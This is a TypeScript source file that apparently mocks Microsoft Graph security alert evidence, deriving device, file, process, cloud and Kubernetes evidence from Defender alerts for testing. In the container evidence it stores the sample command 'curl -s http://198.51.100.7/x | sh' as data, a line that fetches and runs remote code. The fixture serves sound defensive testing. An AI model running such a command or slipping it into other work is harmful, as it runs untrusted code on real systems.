/**
 * Graph `alerts_v2` evidence, derived from the same stored data the Defender dialect shows as an alert's
 * `devices` and `entities` (so both dialects, and the hunting tables, tell one story). Each Defender entity
 * becomes its evidence type, with the roles, detailed roles and tags the Defender API does not carry;
 * the alert's service and category add what only Graph knows (cloud applications, sign-in sessions,
 * storage, containers and Kubernetes objects), so every one of the 31 v1.0 types appears in a seeded set,
 * and two beta types (`dnsEvidence`, `fileHashEvidence`) stand for the types that arrive without notice.
 *
 * Everything is a pure function of the alert (and a hash of its id): the same alert always has the same
 * evidence, nothing extra is stored, and data files written before evidence existed read the same way.
 * No `vscode` import.
 */
import { Prng } from './seed';
import type { DefenderAlert, DefenderDevice, DefenderEntity, DefenderIncident } from './wire';

export type Evidence = Record<string, unknown> & { '@odata.type': string; createdDateTime: string; roles: string[] };

const NS = '#microsoft.graph.security.';

/** The 31 evidence types of Graph v1.0 (alertEvidence's derived types). */
export const V1_EVIDENCE_TYPES = [
  'amazonResourceEvidence',
  'analyzedMessageEvidence',
  'azureResourceEvidence',
  'blobContainerEvidence',
  'blobEvidence',
  'cloudApplicationEvidence',
  'cloudLogonRequestEvidence',
  'cloudLogonSessionEvidence',
  'containerEvidence',
  'containerImageEvidence',
  'containerRegistryEvidence',
  'deviceEvidence',
  'fileEvidence',
  'googleCloudResourceEvidence',
  'ipEvidence',
  'kubernetesClusterEvidence',
  'kubernetesControllerEvidence',
  'kubernetesNamespaceEvidence',
  'kubernetesPodEvidence',
  'kubernetesSecretEvidence',
  'kubernetesServiceAccountEvidence',
  'kubernetesServiceEvidence',
  'mailClusterEvidence',
  'mailboxEvidence',
  'oauthApplicationEvidence',
  'processEvidence',
  'registryKeyEvidence',
  'registryValueEvidence',
  'securityGroupEvidence',
  'urlEvidence',
  'userEvidence',
] as const;

/** Beta-only types the mock also sends: a client must show them by their @odata.type, never drop them. */
export const BETA_EVIDENCE_TYPES = ['dnsEvidence', 'fileHashEvidence'] as const;

function camel(s: string): string {
  return s ? s[0].toLowerCase() + s.slice(1) : s;
}

/** FNV-1a of the text: a stable seed per alert, so its derived evidence never changes between calls. */
function hashSeed(text: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) {
    h ^= text.charCodeAt(i);
    h = Math.imul(h, 0x01000193);
  }
  return h >>> 0;
}

export function alertPrng(a: DefenderAlert, salt: string): Prng {
  return new Prng(hashSeed(`${a.alertId}/${salt}`));
}

interface Ctx {
  a: DefenderAlert;
  r: Prng;
  created: string;
}

function base(type: string, c: Ctx, roles: string[], detailedRoles: string[], e?: DefenderEntity, tags: string[] = []): Evidence {
  return {
    '@odata.type': NS + type,
    createdDateTime: e?.evidenceCreationTime ?? c.created,
    verdict: e?.verdict ? camel(e.verdict) : c.r.pick(['suspicious', 'unknown', 'malicious'] as const),
    remediationStatus: e?.remediationStatus ? camel(e.remediationStatus) : c.r.pick(['none', 'none', 'notFound', 'blocked'] as const),
    remediationStatusDetails: null,
    roles,
    detailedRoles,
    tags,
  };
}

// ---- roles ---------------------------------------------------------------------------------------

const IDENTITY_SOURCES = new Set(['MicrosoftCloudAppSecurity', 'AzureAdIdentityProtection', 'MicrosoftDefenderForIdentity']);

/** The roles the portal gives an entity of this kind in an alert of this category (a plausible reading). */
function rolesOf(e: DefenderEntity, a: DefenderAlert, nth: number): { roles: string[]; detailed: string[] } {
  const cat = a.category;
  switch (e.entityType) {
    case 'User':
      if (nth > 0 && a.serviceSource === 'AzureAdIdentityProtection') return { roles: ['attacked'], detailed: ['Targeted account'] };
      if (['InitialAccess', 'CredentialAccess', 'Impact', 'Exfiltration', 'LateralMovement', 'DefenseEvasion'].includes(cat))
        return { roles: ['compromised'], detailed: ['Compromised account'] };
      return { roles: ['contextual'], detailed: ['Logged on user'] };
    case 'Ip':
      if (cat === 'CommandAndControl') return { roles: ['commandAndControl', 'destination'], detailed: ['C2 server'] };
      if (IDENTITY_SOURCES.has(a.serviceSource)) return { roles: ['attacker', 'source'], detailed: ['Sign-in source'] };
      if (cat === 'LateralMovement') return { roles: ['destination'], detailed: ['Remote device'] };
      return { roles: ['source'], detailed: [] };
    case 'Url':
      if (cat === 'CommandAndControl') return { roles: ['commandAndControl'], detailed: ['C2 URL'] };
      if (cat === 'Exfiltration') return { roles: ['destination'], detailed: ['Upload destination'] };
      return { roles: ['suspicious'], detailed: ['Phishing URL'] };
    case 'File':
      if (['Impact', 'Ransomware', 'Malware'].includes(cat)) return { roles: ['created', 'suspicious'], detailed: ['Dropped file'] };
      return { roles: ['loaded'], detailed: [] };
    case 'Process':
      return nth === 0 ? { roles: ['suspicious'], detailed: ['Parent process'] } : { roles: ['created'], detailed: ['Child process'] };
    case 'MailBox':
      return cat === 'Impact' || cat === 'DefenseEvasion'
        ? { roles: ['compromised'], detailed: ['Compromised mailbox'] }
        : { roles: ['destination'], detailed: ['Recipient'] };
    case 'MailMessage':
      return { roles: ['suspicious'], detailed: [] };
    case 'Registry':
      return { roles: ['created'], detailed: ['Autostart entry'] };
    case 'SecurityGroup':
      return { roles: ['contextual'], detailed: ['Enumerated group'] };
    default:
      return { roles: ['contextual'], detailed: [] };
  }
}

// ---- entities and devices --------------------------------------------------------------------------

function userAccount(e: Pick<DefenderEntity, 'accountName' | 'domainName' | 'userSid' | 'aadUserId' | 'userPrincipalName'>): Record<string, unknown> {
  return {
    accountName: e.accountName ?? null,
    domainName: e.domainName ?? null,
    userSid: e.userSid ?? null,
    azureAdUserId: e.aadUserId ?? null,
    userPrincipalName: e.userPrincipalName ?? null,
    displayName: null,
  };
}

function fileDetails(e: DefenderEntity, r: Prng): Record<string, unknown> {
  return {
    fileName: e.fileName ?? null,
    filePath: e.filePath ?? null,
    sha1: e.sha1 ?? null,
    sha256: e.sha256 ?? null,
    fileSize: r.int(2_048, 8_000_000),
    filePublisher: null,
    signer: null,
    issuer: null,
  };
}

function deviceEvidence(d: DefenderDevice, c: Ctx, primary: boolean): Evidence {
  const ip = `10.${c.r.int(1, 40)}.${c.r.int(0, 255)}.${c.r.int(2, 254)}`;
  return {
    ...base('deviceEvidence', c, primary ? ['compromised'] : ['contextual'], primary ? ['PrimaryDevice'] : [], undefined, [...d.tags]),
    firstSeenDateTime: d.firstSeen,
    mdeDeviceId: d.mdatpDeviceId,
    azureAdDeviceId: d.aadDeviceId,
    deviceDnsName: d.deviceDnsName,
    hostName: d.deviceDnsName.split('.')[0],
    ntDomain: d.osPlatform.startsWith('Windows') ? 'CONTOSO' : null,
    dnsDomain: d.deviceDnsName.includes('.') ? d.deviceDnsName.slice(d.deviceDnsName.indexOf('.') + 1) : null,
    osPlatform: d.osPlatform,
    osBuild: d.osBuild,
    version: d.version,
    healthStatus: camel(d.healthStatus),
    riskScore: camel(d.riskScore),
    rbacGroupId: d.rbacGroupId,
    rbacGroupName: d.rbacGroupName,
    onboardingStatus: camel(d.onboardingStatus),
    defenderAvStatus: camel(d.defenderAvStatus),
    ipInterfaces: [ip],
    vmMetadata: null,
    loggedOnUsers: d.loggedOnUsers.map(u => ({ '@odata.type': `${NS}loggedOnUser`, accountName: u.accountName, domainName: u.domainName })),
  };
}

function entityEvidence(e: DefenderEntity, c: Ctx, nth: number): Evidence[] {
  const { roles, detailed } = rolesOf(e, c.a, nth);
  const b = (type: string, tags: string[] = []): Evidence => base(type, c, roles, detailed, e, tags);
  switch (e.entityType) {
    case 'User':
      return [{ ...b('userEvidence', c.r.chance(0.15) ? ['Executive'] : []), userAccount: userAccount(e), stream: null }];
    case 'Ip':
      return [
        {
          ...b('ipEvidence'),
          ipAddress: e.ipAddress ?? null,
          countryLetterCode: e.ipAddress?.startsWith('10.') ? null : c.r.pick(['NL', 'RU', 'US', 'DE', 'SG', 'BR']),
          location: null,
          stream: null,
        },
      ];
    case 'Url':
      return [{ ...b('urlEvidence'), url: e.url ?? null }];
    case 'File':
      return [
        {
          ...b('fileEvidence'),
          fileDetails: fileDetails(e, c.r),
          mdeDeviceId: e.deviceId ?? null,
          detectionStatus: c.r.pick(['detected', 'blocked', 'prevented'] as const),
        },
      ];
    case 'Process':
      return [
        {
          ...b('processEvidence'),
          processId: e.processId ?? null,
          parentProcessId: e.parentProcessId ?? null,
          processCommandLine: e.processCommandLine ?? null,
          processCreationDateTime: e.processCreationTime ?? null,
          parentProcessCreationDateTime: e.parentProcessCreationTime ?? null,
          imageFile: fileDetails(e, c.r),
          parentProcessImageFile: {
            fileName: 'explorer.exe',
            filePath: 'C:\\Windows',
            sha1: null,
            sha256: null,
            fileSize: null,
            filePublisher: 'Microsoft Corporation',
            signer: null,
            issuer: null,
          },
          userAccount: userAccount(e),
          mdeDeviceId: e.deviceId ?? null,
          detectionStatus: 'detected',
        },
      ];
    case 'MailBox':
      return [
        {
          ...b('mailboxEvidence'),
          primaryAddress: e.mailboxAddress ?? null,
          displayName: e.mailboxDisplayName ?? null,
          userAccount: { ...userAccount({}), userPrincipalName: e.mailboxAddress ?? null },
        },
      ];
    case 'MailMessage':
      return [
        {
          ...b('analyzedMessageEvidence'),
          networkMessageId: e.networkMessageId ?? null,
          internetMessageId: `<${e.networkMessageId ?? 'x'}@mail.example>`,
          recipientEmailAddress: e.recipient ?? null,
          senderIp: e.senderIp ?? null,
          subject: e.subject ?? null,
          // Graph's deliveryAction and deliveryLocation enums.
          deliveryAction:
            e.deliveryAction === 'Junked' ? 'deliveredToJunk' : e.deliveryAction === 'Blocked' ? 'blocked' : e.deliveryAction ? 'delivered' : 'unknown',
          deliveryLocation: e.deliveryAction === 'Junked' ? 'junkFolder' : e.deliveryAction === 'Blocked' ? 'quarantine' : 'inbox_folder',
          antiSpamDirection: 'Inbound',
          attachmentsCount: c.a.category === 'InitialAccess' && /malware/i.test(c.a.title) ? 1 : 0,
          urlCount: 1,
          language: 'en',
          threatDetectionMethods: ['URL detonation reputation'],
          threats: ['Phish'],
          receivedDateTime: e.evidenceCreationTime ?? c.created,
          urls: [],
          urn: null,
          p1Sender: { emailAddress: e.sender ?? null, displayName: null, domainName: e.sender?.split('@')[1] ?? null },
          p2Sender: { emailAddress: e.sender ?? null, displayName: null, domainName: e.sender?.split('@')[1] ?? null },
        },
      ];
    case 'MailCluster':
      return [
        {
          ...b('mailClusterEvidence'),
          clusterBy: e.clusterBy ?? null,
          clusterByValue: e.clusterByValue ?? null,
          emailCount: c.r.int(2, 40),
          networkMessageIds: [],
          query: null,
          urn: null,
        },
      ];
    case 'Registry': {
      const key = { registryKey: e.registryKey ?? null, registryHive: e.registryHive ?? null };
      const out: Evidence[] = [];
      if (e.registryValueName !== undefined) {
        out.push({
          ...b('registryValueEvidence'),
          ...key,
          mdeDeviceId: e.deviceId ?? null,
          registryValueName: e.registryValueName,
          registryValueType: e.registryValueType ?? null,
          registryValue: e.registryValue ?? null,
        });
      }
      // The key the value was written under is evidence of its own (the portal lists both).
      out.push({ ...base('registryKeyEvidence', c, ['edited'], [], e), ...key });
      return out;
    }
    case 'SecurityGroup':
      return [{ ...b('securityGroupEvidence'), securityGroupId: e.securityGroupId ?? null, displayName: e.securityGroupName ?? null }];
    default:
      // An entity type the mock does not know: the generic base type, as Graph sends for kinds it has no class for.
      return [{ ...base('alertEvidence', c, roles, detailed, e) }];
  }
}

// ---- what only Graph knows ------------------------------------------------------------------------

const CLOUD_APPS = [
  [20893, 'Microsoft Exchange Online'],
  [15600, 'Microsoft OneDrive for Business'],
  [20892, 'Microsoft SharePoint Online'],
  [11161, 'Office 365'],
] as const;
const OAUTH_APPS = ['Mail Sync Pro', 'PDF Converter Online', 'Calendar Helper 365'] as const;
const BROWSERS = ['Edge 120.0', 'Chrome 119.0', 'Firefox 121.0', 'Python Requests 2.31'] as const;

function firstUser(a: DefenderAlert): DefenderEntity | undefined {
  return a.entities.find(e => e.entityType === 'User') ?? a.entities.find(e => e.entityType === 'MailBox');
}

function cloudEvidence(c: Ctx): Evidence[] {
  const { a, r } = c;
  const out: Evidence[] = [];
  const user = firstUser(a);
  const subscription = r.guid();
  const azure = (name: string, type: string): Evidence => ({
    ...base('azureResourceEvidence', c, ['contextual'], [], undefined),
    resourceId: `/subscriptions/${subscription}/resourceGroups/rg-data/providers/${type}/${name}`,
    resourceName: name,
    resourceType: type,
  });
  const session = (): Evidence => ({
    ...base('cloudLogonSessionEvidence', c, ['suspicious'], ['Sign-in session'], undefined),
    account: user ? { ...base('userEvidence', c, ['compromised'], [], undefined), userAccount: userAccount(user) } : null,
    browser: r.pick(BROWSERS),
    deviceName: null,
    operatingSystem: r.pick(['Windows 10', 'Linux', 'macOS']),
    previousLogonDateTime: null,
    protocol: 'OAuth2:Authorize',
    sessionId: r.guid(),
    startUtcDateTime: c.created,
    userAgent: 'Mozilla/5.0 (X11; Linux x86_64)',
  });
  if (a.serviceSource === 'MicrosoftCloudAppSecurity') {
    const [appId, displayName] = r.pick(CLOUD_APPS);
    out.push({
      ...base('cloudApplicationEvidence', c, ['contextual'], ['Accessed application'], undefined),
      appId,
      displayName,
      instanceId: 0,
      instanceName: displayName,
      saasAppId: appId,
      stream: null,
    });
    if (a.category === 'DefenseEvasion') {
      out.push({
        ...base('oauthApplicationEvidence', c, ['suspicious'], ['Consented application'], undefined),
        appId: r.guid(),
        displayName: r.pick(OAUTH_APPS),
        objectId: r.guid(),
        publisher: 'Unverified',
      });
    }
    if (a.category === 'InitialAccess') out.push(session());
    if (a.category === 'Exfiltration') {
      const account = `stcontoso${r.hex(4)}`;
      const storage = azure(account, 'Microsoft.Storage/storageAccounts');
      const container = {
        ...base('blobContainerEvidence', c, ['source'], [], undefined),
        name: 'finance-exports',
        storageResource: storage,
        url: `https://${account}.blob.core.windows.net/finance-exports`,
      };
      out.push(storage, container, {
        ...base('blobEvidence', c, ['source'], ['Downloaded blob'], undefined),
        blobContainer: container,
        etag: `0x8DC${r.hex(12).toUpperCase()}`,
        fileHashes: [{ algorithm: 'sha256', value: r.hex(64) }],
        name: 'payroll-2026.xlsx',
        url: `https://${account}.blob.core.windows.net/finance-exports/payroll-2026.xlsx`,
      });
    }
    if (a.category === 'Impact') {
      out.push(
        {
          ...base('amazonResourceEvidence', c, ['attacked'], [], undefined),
          amazonAccountId: r.digits(12),
          amazonResourceId: `arn:aws:s3:::contoso-backups-${r.hex(4)}`,
          resourceName: 'contoso-backups',
          resourceType: 'S3 Bucket',
        },
        {
          ...base('googleCloudResourceEvidence', c, ['attacked'], [], undefined),
          fullResourceName: `//storage.googleapis.com/projects/_/buckets/contoso-archive-${r.hex(4)}`,
          location: 'europe-west1',
          locationType: 'regional',
          projectId: 'contoso-prod',
          projectNumber: Number(r.digits(12)),
          resourceName: 'contoso-archive',
          resourceType: 'Bucket',
        },
      );
    }
  }
  if (a.serviceSource === 'MicrosoftDefenderForIdentity' && !a.entities.some(e => e.entityType === 'SecurityGroup')) {
    // Identity alerts name the privileged group the targeted account belongs to.
    out.push({
      ...base('securityGroupEvidence', c, ['contextual'], ['Member of'], undefined),
      securityGroupId: r.guid(),
      displayName: r.pick(['Domain Admins', 'Account Operators', 'Server Operators'] as const),
    });
  }
  if (a.serviceSource === 'AzureAdIdentityProtection') {
    out.push({ ...base('cloudLogonRequestEvidence', c, ['suspicious'], ['Sign-in request'], undefined), requestId: r.guid() }, session());
  }
  return out;
}

/** A Linux server's endpoint alert: the workload is a container in a Kubernetes cluster, as on AKS nodes. */
function containerEvidence(c: Ctx, device: DefenderDevice): Evidence[] {
  const { r } = c;
  const ns = r.pick(['payments', 'web', 'batch'] as const);
  const registry = { ...base('containerRegistryEvidence', c, ['contextual'], [], undefined), registry: 'contosoacr.azurecr.io' };
  const image = {
    ...base('containerImageEvidence', c, ['contextual'], [], undefined),
    digestImage: null,
    imageId: `contosoacr.azurecr.io/${ns}-api@sha256:${r.hex(64)}`,
    registry,
  };
  const cluster = {
    ...base('kubernetesClusterEvidence', c, ['contextual'], [], undefined),
    cloudResource: null,
    distribution: 'AKS',
    name: `aks-${ns}-prod`,
    platform: 'aks',
    version: '1.29.2',
  };
  const namespace = { ...base('kubernetesNamespaceEvidence', c, ['contextual'], [], undefined), cluster, labels: { team: ns }, name: ns };
  const account = { ...base('kubernetesServiceAccountEvidence', c, ['contextual'], [], undefined), name: `${ns}-sa`, namespace };
  const controller = {
    ...base('kubernetesControllerEvidence', c, ['contextual'], [], undefined),
    labels: { app: `${ns}-api` },
    name: `${ns}-api`,
    namespace,
    type: 'Deployment',
  };
  const podName = `${ns}-api-${r.hex(10)}-${r.hex(5)}`;
  const pod = {
    ...base('kubernetesPodEvidence', c, ['compromised'], [], undefined),
    containers: [],
    controller,
    ephemeralContainers: [],
    initContainers: [],
    labels: { app: `${ns}-api` },
    name: podName,
    namespace,
    podIp: { ...base('ipEvidence', c, [], [], undefined), ipAddress: `10.244.${r.int(0, 9)}.${r.int(2, 254)}` },
    serviceAccount: account,
  };
  const container = {
    ...base('containerEvidence', c, ['compromised'], [], undefined),
    args: ['-c', 'curl -s http://198.51.100.7/x | sh'],
    command: ['/bin/sh'],
    containerId: r.hex(64),
    image,
    isPrivileged: r.chance(0.3),
    name: `${ns}-api`,
    pod,
  };
  return [
    container,
    image,
    registry,
    pod,
    controller,
    namespace,
    cluster,
    account,
    {
      ...base('kubernetesServiceEvidence', c, ['contextual'], [], undefined),
      clusterIP: { ...base('ipEvidence', c, [], [], undefined), ipAddress: `10.0.${r.int(0, 255)}.${r.int(2, 254)}` },
      externalIPs: [],
      labels: {},
      name: `${ns}-api`,
      namespace,
      selector: { app: `${ns}-api` },
      servicePorts: [{ port: 443, protocol: 'tcp', targetPort: '8443' }],
      serviceType: 'clusterIP',
    },
    { ...base('kubernetesSecretEvidence', c, ['contextual'], ['Accessed secret'], undefined), name: `${ns}-db-credentials`, namespace, secretType: 'Opaque' },
    // The node the pod runs on, named like the device it is.
    {
      ...base('ipEvidence', c, ['contextual'], ['Node address'], undefined),
      ipAddress: `10.240.0.${r.int(4, 250)}`,
      countryLetterCode: null,
      location: null,
      stream: null,
      hostName: device.deviceDnsName,
    },
  ];
}

function betaEvidence(c: Ctx): Evidence[] {
  const { a, r } = c;
  const out: Evidence[] = [];
  const url = a.entities.find(e => e.entityType === 'Url')?.url;
  if (a.category === 'CommandAndControl' && url) {
    let domainName: string;
    try {
      domainName = new URL(url).hostname;
    } catch {
      domainName = url;
    }
    const ip = a.entities.find(e => e.entityType === 'Ip')?.ipAddress ?? null;
    out.push({
      ...base('dnsEvidence', c, ['commandAndControl'], [], undefined),
      domainName,
      dnsServerIp: { ipAddress: '10.0.0.53' },
      hostIpAddress: { ipAddress: ip },
    });
  }
  const file = a.entities.find(e => e.entityType === 'File');
  if (a.category === 'Malware' && file?.sha256)
    out.push({ ...base('fileHashEvidence', c, ['suspicious'], [], undefined), algorithm: 'sha256', value: file.sha256 });
  if (a.category === 'Malware' && r.chance(0.05))
    out.push({ ...base('fileHashEvidence', c, ['suspicious'], [], undefined), algorithm: 'md5', value: r.hex(32) });
  return out;
}

// ---- the alert's evidence ---------------------------------------------------------------------------

const CONTAINER_CATEGORIES = new Set(['Execution', 'CommandAndControl', 'Persistence', 'DefenseEvasion']);

const cache = new WeakMap<DefenderAlert, { key: string; value: Evidence[] }>();

/**
 * The alert's Graph evidence: its devices, its entities (with roles), then what only Graph shows. Cached per
 * alert object until its entities or devices change (the arrays are replaced or grow, never edited in place).
 */
export function alertEvidence(a: DefenderAlert): Evidence[] {
  const key = `${a.devices.length}/${a.entities.length}/${a.creationTime}`;
  const hit = cache.get(a);
  if (hit && hit.key === key) return hit.value;
  const c: Ctx = { a, r: alertPrng(a, 'evidence'), created: a.creationTime };
  const out: Evidence[] = a.devices.map((d, i) => deviceEvidence(d, c, i === 0));
  const nth = new Map<string, number>();
  for (const e of a.entities) {
    const n = nth.get(e.entityType) ?? 0;
    nth.set(e.entityType, n + 1);
    out.push(...entityEvidence(e, c, n));
  }
  out.push(...cloudEvidence(c));
  // Container workloads run on Linux nodes and on the application servers.
  const node =
    a.serviceSource === 'MicrosoftDefenderForEndpoint'
      ? a.devices.find(d => d.osPlatform === 'Linux' || (/^srv-(app|web)-/.test(d.deviceDnsName) && CONTAINER_CATEGORIES.has(a.category)))
      : undefined;
  if (node) out.push(...containerEvidence(c, node));
  out.push(...betaEvidence(c));
  cache.set(a, { key, value: out });
  return out;
}

export function incidentEvidenceCount(inc: DefenderIncident): number {
  return inc.alerts.reduce((n, a) => n + alertEvidence(a).length, 0);
}

// ---- padding (the 500-item incident of the benches) -----------------------------------------------

/**
 * Add entities to the incident's alerts until its evidence numbers `target` items in all (never fewer than
 * it has). Each added entity is one evidence item of a kind an investigation meets in bulk: files,
 * processes, IPs, URLs and users, spread over the alerts, with distinct values.
 */
export function padEvidence(inc: DefenderIncident, target: number): void {
  if (inc.alerts.length === 0) return;
  let have = incidentEvidenceCount(inc);
  const r = new Prng(hashSeed(`pad/${inc.incidentId}`));
  for (let i = 0; have < target; i++, have++) {
    const a = inc.alerts[i % inc.alerts.length];
    const deviceId = a.devices[0]?.mdatpDeviceId;
    const common = {
      remediationStatus: r.pick(['None', 'Remediated', 'Blocked'] as const),
      verdict: r.pick(['Suspicious', 'Malicious', 'NoThreatsFound'] as const),
      evidenceCreationTime: a.creationTime,
    };
    let e: DefenderEntity;
    switch (i % 5) {
      case 0:
        e = {
          entityType: 'File',
          fileName: `dropped_${i}.dll`,
          filePath: 'C:\\Users\\Public\\cache',
          sha1: r.hex(40),
          sha256: r.hex(64),
          ...(deviceId ? { deviceId } : {}),
        };
        break;
      case 1:
        e = {
          entityType: 'Process',
          fileName: 'rundll32.exe',
          filePath: 'C:\\Windows\\System32',
          processCommandLine: `rundll32.exe C:\\Users\\Public\\cache\\dropped_${i - 1}.dll,Start`,
          processId: 1000 + i,
          parentProcessId: 900 + i,
          sha1: r.hex(40),
          sha256: r.hex(64),
          ...(deviceId ? { deviceId } : {}),
        };
        break;
      case 2:
        e = { entityType: 'Ip', ipAddress: `203.0.${(i >> 8) & 255}.${i & 255}` };
        break;
      case 3:
        e = { entityType: 'Url', url: `https://cdn-${i}.secure-docshare.xyz/p/${r.hex(8)}` };
        break;
      default:
        e = {
          entityType: 'User',
          accountName: `svc${i}`,
          domainName: 'CONTOSO',
          userPrincipalName: `svc${i}@contoso.com`,
          aadUserId: r.guid(),
          userSid: `S-1-5-21-1004336348-1177238915-682003330-${20000 + i}`,
        };
    }
    // A new array, so the evidence cache sees the change.
    a.entities = [...a.entities, { ...e, ...common }];
  }
}
